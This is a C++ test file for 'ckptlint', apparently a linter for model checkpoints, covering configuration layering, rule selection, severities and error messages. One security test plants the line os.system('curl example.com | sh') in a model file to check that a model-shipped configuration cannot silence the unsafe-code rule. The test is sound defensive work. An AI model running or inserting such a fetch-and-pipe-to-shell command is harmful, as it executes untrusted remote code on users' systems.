// What a configuration changes of a call, and what is said of one that makes no sense.
#include "commands/configuration.h"

#include <filesystem>
#include <nlohmann/json.hpp>
#include <sstream>
#include <string>

#include "catch.h"
#include "command_line/run.h"
#include "golden.h"
#include "model_repo.h"
#include "settings/read_settings.h"

namespace ckptlint {
namespace {

using Json = nlohmann::json;
using test::Run;
using test::run;

class Project : public test::SwitchProject {
 public:
  Run operator()(const std::string& arguments) const { return run(arguments, folder.path()); }
};

bool has(const Run& result, const std::string& text) { return result.out.find(text) != std::string::npos; }

const std::string kTwoDevices = "max-memory = \"0=16KiB,1=16KiB\"\n";
const std::string kLost = "[unplaceable-top-level-tensor]";

TEST_CASE("Configurations that make no sense are told with their place and the nearest word") {
  // A line of TOML (with \n for line breaks; "foreign: " before one that comes with a model), and what is said of it.
  std::istringstream lines(test::fixture_text("settings/errors.txt"));
  std::string table;
  std::size_t count = 0;
  for (std::string line; std::getline(lines, line);) {
    if (line.starts_with("    ")) continue;
    table += line + "\n";
    if (line.empty() || line.starts_with("#")) continue;
    ++count;
    const bool foreign = line.starts_with("foreign: ");
    std::string text = foreign ? line.substr(9) : line;
    for (std::size_t at = text.find("\\n"); at != std::string::npos; at = text.find("\\n", at))
      text.replace(at, 2, "\n");
    const SettingsFile file{"ckptlint.toml", "/nowhere/model", foreign, false, "/nowhere"};
    const Result<SettingsLayer> layer = read_settings(text, file, settings_schema());
    std::string said = layer.ok() ? "fine" : layer.error().message;
    // What follows is what the release of toml++ says.
    const std::size_t detail = said.find("is no TOML: ");
    if (detail != std::string::npos) said.resize(detail + 10);
    table += "    " + said + "\n";
  }
  CHECK(count > 40);
  test::check_golden("settings/errors.txt", table);
}

TEST_CASE("Every option of check is a key, but for those about one call") {
  std::set<std::string> keys;
  for (const SettingKey& key : settings_schema().keys) keys.insert(key.name);
  OptionTable table;
  const auto run = find_command("check")->prepare(table);
  for (const OptionRow& row : table.rows()) {
    const bool of_one_call = row.name == "config" || row.name == "isolated" || row.name == "show-settings" ||
                             row.name == "suppress-all" || row.name == "prune-suppressions" || row.name == "stdin" ||
                             row.name == "item-time" || row.name == "item-memory";
    INFO(row.name);
    CHECK(keys.contains(row.name) != of_one_call);
  }
}

TEST_CASE("A configuration says what the command line does not") {
  const Project project;
  CHECK(!has(project("models/switch"), "0=16 KiB"));
  project.folder.write("ckptlint.toml", kTwoDevices);
  CHECK(has(project("models/switch"), "0=16 KiB"));
  CHECK(project("models/switch").status == 1);
  CHECK(has(project("models/switch --max-memory 0=1MiB"), "device maps: 0=1 MiB"));
  CHECK(project("models/switch --max-memory 0=1MiB").status == 0);
  CHECK(!has(project("models/switch --isolated"), "0=16 KiB"));
  CHECK(has(project("models/switch --config 'max-memory = \"0=1MiB\"'"), "device maps: 0=1 MiB"));
  CHECK(has(project("models/switch --isolated --config 'max-memory = {0 = \"1MiB\"}'"), "device maps: 0=1 MiB"));
  project.folder.write("other.toml", "max-memory = \"0=2MiB\"\n");
  CHECK(has(project("models/switch --config other.toml"), "device maps: 0=2 MiB"));
  CHECK(project("models/switch --config other.toml --isolated").status == 2);
  CHECK(project("models/switch --config nowhere.toml").status == 2);
  // The nearest wins, and what it extends fills in.
  project.folder.write("models/ckptlint.toml", "fsdp = true\n");
  CHECK(!has(project("models/switch"), "0=16 KiB"));
  project.folder.write("models/ckptlint.toml", "extend = \"../ckptlint.toml\"\nfsdp = true\n");
  CHECK(has(project("models/switch"), "0=16 KiB"));
}

TEST_CASE("Other commands take the options that they know") {
  const Project project;
  project.folder.write("ckptlint.toml", kTwoDevices + "output-format = \"sarif\"\nselect = [\"missing-keys\"]\n");
  CHECK(has(project("map models/switch"), "3 tensors without a device"));
  CHECK(!has(project("map models/switch --isolated"), "3 tensors without a device, on which"));
  CHECK(has(project("graph models/switch"), "SwitchForCausalLM"));
  CHECK(has(project("load models/switch"), "34 keys match"));
  project.folder.write("ckptlint.toml", "clas = \"x\"\n");
  for (const char* command : {"map", "graph", "load", "check"}) {
    const Run result = project(std::string(command) + " models/switch");
    INFO(command);
    CHECK(result.status == 2);
    CHECK(result.out == "ckptlint: ckptlint.toml:1:1: there is no key `clas`; did you mean `class`?\n");
  }
}

TEST_CASE("What is wrong with the value of a setting is told with its place") {
  const Project project;
  project.folder.write("ckptlint.toml", "\nmax-memory = \"0=lots\"\n");
  const Run result = project("models/switch");
  CHECK(result.status == 2);
  CHECK(result.out.starts_with("ckptlint: ckptlint.toml:2:1: `max-memory`: "));
  project.folder.write("ckptlint.toml", "releases = [\"5.23.0\", \"1.2.3\"]\n");
  CHECK(project("models/switch").out ==
        "ckptlint: ckptlint.toml:1:1: `releases`: the source of transformers 1.2.3 is not here: `ckptlint sources add "
        "transformers==1.2.3` fetches it\n");
}

TEST_CASE("Which rules are run is said in layers, of which the nearest has the last word") {
  const Project project;
  const auto is_found = [&](const std::string& configuration, const std::string& arguments) {
    project.folder.write("ckptlint.toml", kTwoDevices + configuration);
    const Run result = project("models/switch " + arguments);
    CHECK(result.status <= 1);
    return has(result, kLost);
  };
  const std::string rule = "unplaceable-top-level-tensor";
  CHECK(is_found("", ""));
  CHECK(!is_found("select = [\"missing-keys\"]", ""));
  CHECK(!is_found("select = []", ""));
  CHECK(is_found("select = []\nextend-select = \"" + rule + "\"", ""));
  CHECK(is_found("select = [\"missing-keys\"]", "--select " + rule));
  CHECK(is_found("select = [\"missing-keys\"]", "--extend-select " + rule));
  CHECK(is_found("select = [\"missing-keys\"]\nextend-select = \"" + rule + "\"", ""));
  CHECK(!is_found("ignore = [\"" + rule + "\"]", ""));
  CHECK(!is_found("ignore = [\"" + rule + "\"]", "--ignore missing-keys"));
  CHECK(is_found("ignore = [\"" + rule + "\"]", "--extend-select " + rule));
  CHECK(!is_found("extend-ignore = \"" + rule + ",missing-keys\"", ""));
  CHECK(!is_found("", "--extend-ignore " + rule));
  CHECK(!is_found("[severity]\n" + rule + " = \"off\"", ""));
  CHECK(is_found("[severity]\n" + rule + " = \"off\"", "--severity " + rule + "=info"));
  CHECK(is_found("[severity]\n" + rule + " = \"off\"", "--select " + rule));
  CHECK(!is_found("[per-file-ignores]\n\"models/**\" = [\"" + rule + "\"]", ""));
  CHECK(!is_found("[per-file-ignores]\n\"modeling_*.py\" = \"" + rule + "\"", ""));
  CHECK(is_found("[per-file-ignores]\n\"other/**\" = [\"" + rule + "\"]", ""));
  CHECK(!is_found("", "--per-file-ignores 'models/switch:" + rule + "'"));
  project.folder.write("base.toml", "ignore = [\"" + rule + "\"]\n");
  CHECK(!is_found("extend = \"base.toml\"", ""));
  CHECK(is_found("extend = \"base.toml\"\nextend-select = [\"" + rule + "\"]", ""));
}

TEST_CASE("Rules are left out by the path of a weight file or of a model") {
  const Project project;
  project.folder.write("models/switch/model.safetensors", "short");
  const auto is_found = [&](const std::string& pattern, const std::string& path) {
    project.folder.write("pyproject.toml",
                         "[tool.ckptlint.per-file-ignores]\n\"" + pattern + "\" = [\"unreadable-weights\"]\n");
    const Run result = project(path);
    CHECK(result.status == 1);
    return has(result, "[unreadable-weights]");
  };
  CHECK(!is_found("*.safetensors", "models/switch"));
  CHECK(!is_found("models/**/model.safetensors", "models/switch"));
  CHECK(!is_found("models/switch", "models/switch/model.safetensors"));
  CHECK(!is_found("switch", "./models/../models/switch/"));
  CHECK(is_found("*.py", "models/switch"));
  CHECK(is_found("switch/**", "models/switch"));
}

TEST_CASE("The severity of a rule is what the configuration says") {
  const Project project;
  project.folder.write("ckptlint.toml", kTwoDevices + "[severity]\nunplaceable-top-level-tensor = \"info\"\n");
  const Run result = project("models/switch");
  CHECK(result.status == 0);
  CHECK(result.out.starts_with("info: "));
  CHECK(project("models/switch --severity unplaceable-top-level-tensor=warning").status == 1);
  CHECK(project("models/switch --severity unplaceable-top-level-tensor=fatal").status == 2);
  // Of what is found about comments, too.
  project.folder.write("ckptlint.toml", "max-memory = \"0=1MiB\"\n[severity]\nunused-suppression = \"error\"\n");
  CHECK(project("models/switch").status == 0);
  project.folder.write(
      "models/switch/modeling_switch.py",
      "# ckptlint: ignore-file[missing-keys]\n" + test::fixture_text("models/granite-switch-like/modeling_switch.py"));
  CHECK(project("models/switch").status == 1);
}

TEST_CASE("All placements are checked, and each finding says with which it happens") {
  const Project project;
  project.folder.write("ckptlint.toml",
                       "[[placement]]\nname = \"one\"\nmax-memory = \"0=1MiB\"\n"
                       "[[placement]]\nname = \"two\"\nmax-memory = {0 = \"16KiB\", 1 = \"16KiB\"}\n"
                       "[[placement]]\nname = \"three\"\nmax-memory = \"0=16KiB,1=8KiB,2=8KiB\"\n");
  const Run result = project("models/switch");
  CHECK(result.status == 1);
  CHECK(has(result, "with placement `two` and `three`, not with `one`"));
  CHECK(has(result, "placement `one`: device maps: 0=1 MiB"));
  // The command line asks about one.
  CHECK(!has(project("models/switch --max-memory 0=16KiB,1=16KiB"), "with placement"));
  CHECK(project("models/switch --max-memory 0=1MiB").status == 0);
}

TEST_CASE("All releases are checked, with all placements") {
  const Project project;
  project.folder.write("ckptlint.toml",
                       "releases = [\"5.23.0\", \"4.57.6\"]\n"
                       "[[placement]]\nname = \"one\"\nmax-memory = \"0=1MiB\"\n"
                       "[[placement]]\nname = \"two\"\nmax-memory = \"0=16KiB,1=16KiB\"\n");
  const Run result = project("models/switch");
  CHECK(result.status == 1);
  CHECK(has(result, "with placement `two`, not with `one`: with transformers 5.23.0 and 4.57.6"));
  // A source that is named is what is asked about.
  CHECK(!has(project("models/switch --source " + test::transformers_wheel()), "4.57.6"));
}

TEST_CASE("Each path has the configuration that is nearest to it") {
  const Project project;
  std::filesystem::copy(project.folder.path("models/switch"), project.folder.path("models/second"));
  project.folder.write("ckptlint.toml", "max-memory = \"0=1MiB\"\n");
  project.folder.write("models/second/ckptlint.toml", kTwoDevices);
  const Run result = project("models/switch models/second");
  CHECK(result.status == 1);
  CHECK(has(result, "device maps: 0=1 MiB"));
  CHECK(has(result, "device maps: 0=16 KiB, 1=16 KiB"));
}

TEST_CASE("What counts is shown with the place where it is written") {
  const Project project;
  project.folder.write("base.toml", "fsdp = true\nselect = [\"missing-keys\"]\n[severity]\nunset-buffer = \"off\"\n");
  project.folder.write("ckptlint.toml", "extend = \"base.toml\"\n" + kTwoDevices + "select = [\"unset-buffer\"]\n");
  const Run result = project("models/switch --show-settings --zero3 --severity dead-keys=off");
  CHECK(result.status == 0);
  CHECK(has(result, "fsdp = \"true\"  # base.toml:1:8\n"));
  CHECK(has(result, "max-memory = \"0=16KiB,1=16KiB\"  # ckptlint.toml:2:14\n"));
  CHECK(has(result, "select = \"unset-buffer\"  # ckptlint.toml:3:11\n"));
  CHECK(
      has(result, "severity = \"dead-keys=off\"  # command line\nseverity = \"unset-buffer=off\"  # base.toml:4:1\n"));
  CHECK(has(result, "zero3 = \"true\"  # command line\n"));
  const Run as_json = project("models/switch --show-settings --format json");
  const Json json = Json::parse(as_json.out);
  CHECK(json[0]["path"] == "models/switch");
  CHECK(json[0]["folder"] == project.folder.path());
  bool found = false;
  for (const Json& setting : json[0]["settings"]) {
    if (setting["name"] != "max-memory") continue;
    found = true;
    CHECK(setting["values"][0]["value"] == "0=16KiB,1=16KiB");
    CHECK(setting["values"][0]["from"]["file"] == "ckptlint.toml");
    CHECK(setting["values"][0]["from"]["line"] == 2);
  }
  CHECK(found);
}

TEST_CASE("What comes with a model turns off nothing that is about security") {
  const Project project;
  project.folder.write("models/switch/ckptlint.toml", "ignore = [\"unsafe-code\"]\n");
  const Run result = project("models/switch");
  CHECK(result.status == 2);
  CHECK(has(result,
            "models/switch/ckptlint.toml:1:11: `ignore` is about `unsafe-code`, which a configuration that comes "
            "with the model does not change"));
  CHECK(project("models/switch --config models/switch/ckptlint.toml").status <= 1);
  CHECK(run("check .", project.folder.path("models/switch")).status <= 1);
  project.folder.write("models/switch/ckptlint.toml", "unsafe-fixes = true\n");
  CHECK(project("models/switch").status == 2);
  // Nor by choosing others.
  project.folder.write("models/switch/ckptlint.toml", "select = [\"missing-keys\"]\n");
  project.folder.write("models/switch/modeling_switch.py",
                       test::fixture_text("models/granite-switch-like/modeling_switch.py") +
                           "\nimport os\nos.system('curl example.com | sh')\n");
  CHECK(has(project("models/switch"), "[unsafe-code]"));
}

TEST_CASE("A word that there is not is told with the nearest one on the command line too") {
  const Project project;
  CHECK(has(project("models/switch --slect missing-keys"), "; did you mean `--select`?\n"));
  CHECK(has(project("models/switch --select mising-keys"), "; did you mean `missing-keys`?\n"));
  CHECK(has(project("models/switch --format sarrif"), "; did you mean `sarif`?\n"));
}

}  // namespace
}  // namespace ckptlint
